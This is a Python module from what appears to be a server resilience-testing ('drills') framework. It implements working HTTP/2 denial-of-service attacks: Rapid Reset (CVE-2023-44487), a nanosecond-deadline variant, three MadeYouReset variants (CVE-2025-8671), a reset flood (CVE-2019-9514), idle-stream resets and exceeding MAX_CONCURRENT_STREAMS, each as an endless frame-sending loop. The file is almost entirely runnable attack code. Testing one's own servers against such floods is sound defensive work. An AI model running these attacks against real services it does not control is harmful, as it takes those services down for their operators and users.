"""Streams that are opened to be reset: each makes the host begin a call, and costs the attacker next to nothing."""

from __future__ import annotations

from itertools import count

from h2.errors import ErrorCodes

from drills.attacks.attack import CALM, PROTOCOL, Attack, Attacker
from drills.orders import GET, attack
from drills.wire import Wire

_MOST = 2**31 - 1


def rapid_reset(attacker: Attacker) -> None:
    """Calls that are cancelled at once."""
    with attacker.connection() as wire:
        wire.open()
        message = attack("hold")
        for first in count(1, 40):
            calls = [wire.call(stream_id, message) + wire.make.reset(stream_id) for stream_id in _streams(first)]
            wire.send(b"".join(calls), frames=3 * len(calls))


def reset_at_the_deadline(attacker: Attacker) -> None:
    """Calls that are cancelled at once, and say that their time is over by then."""
    with attacker.connection() as wire:
        wire.open()
        for first in count(1, 40):
            calls = [
                wire.make.request(stream_id, GET, extra=[("grpc-timeout", "1n")]) + wire.make.reset(stream_id)
                for stream_id in _streams(first)
            ]
            wire.send(b"".join(calls), frames=2 * len(calls))


def window_overflow(attacker: Attacker) -> None:
    """Calls that the host must reset, because their windows overflow."""
    with attacker.connection() as wire:
        wire.open()
        message = attack("hold")
        for first in count(1, 40):
            calls = [
                wire.call(stream_id, message) + wire.make.window_update(stream_id, _MOST)
                for stream_id in _streams(first)
            ]
            wire.send(b"".join(calls), frames=3 * len(calls))


def data_after_the_end(attacker: Attacker) -> None:
    """Calls that the host must reset, because data follows their end."""
    with attacker.connection() as wire:
        wire.open()
        message = attack("hold")
        for first in count(1, 40):
            calls = [wire.call(stream_id, message) + wire.make.data(stream_id, b"x") for stream_id in _streams(first)]
            wire.send(b"".join(calls), frames=3 * len(calls))


def zero_increment(attacker: Attacker) -> None:
    """Calls that the host must reset, because their windows are to grow by nothing."""
    with attacker.connection() as wire:
        wire.open()
        message = attack("hold")
        for first in count(1, 40):
            calls = [
                wire.call(stream_id, message) + wire.make.raw(0x8, 0, stream_id, bytes(4))
                for stream_id in _streams(first)
            ]
            wire.send(b"".join(calls), frames=3 * len(calls))


def resets_of_one_stream(attacker: Attacker) -> None:
    """One stream, reset again and again."""
    with attacker.connection() as wire:
        wire.open()
        wire.send(wire.request(1))
        wire.flood(wire.make.reset(1))


def resets_of_idle_streams(attacker: Attacker) -> None:
    """A reset of a stream that was never opened."""
    with attacker.connection() as wire:
        wire.open()
        wire.flood(wire.make.reset(1, ErrorCodes.CANCEL))


def too_many_streams(attacker: Attacker) -> None:
    """Calls that never end, more than may run at once."""
    with attacker.connection() as wire:
        wire.open()
        message = attack("hold")
        for first in count(1, 40):
            wire.send(_calls(wire, first, message), frames=2 * len(_streams(first)))


def _streams(first: int) -> range:
    return range(first, first + 40, 2)


def _calls(wire: Wire, first: int, message: bytes) -> bytes:
    return b"".join(wire.call(stream_id, message) for stream_id in _streams(first))


ATTACKS = [
    Attack("rapid-reset", "calls that are reset at once (CVE-2023-44487)", rapid_reset, (CALM,)),
    Attack("deadline-reset", "the same, with deadlines of a nanosecond", reset_at_the_deadline, (CALM,)),
    Attack(
        "made-you-reset-window",
        "windows that overflow, so that the host resets (CVE-2025-8671)",
        window_overflow,
        (CALM,),
    ),
    Attack(
        "made-you-reset-data",
        "data after the end, so that the host resets (CVE-2025-8671)",
        data_after_the_end,
        (CALM,),
    ),
    Attack("made-you-reset-zero", "windows that grow by nothing (CVE-2025-8671)", zero_increment, (CALM,)),
    Attack("reset-flood", "one stream, reset again and again (CVE-2019-9514)", resets_of_one_stream, (CALM,)),
    Attack("reset-idle", "resets of streams that were never opened", resets_of_idle_streams, (PROTOCOL,)),
    Attack("too-many-streams", "calls that never end, beyond MAX_CONCURRENT_STREAMS", too_many_streams, (CALM,)),
]
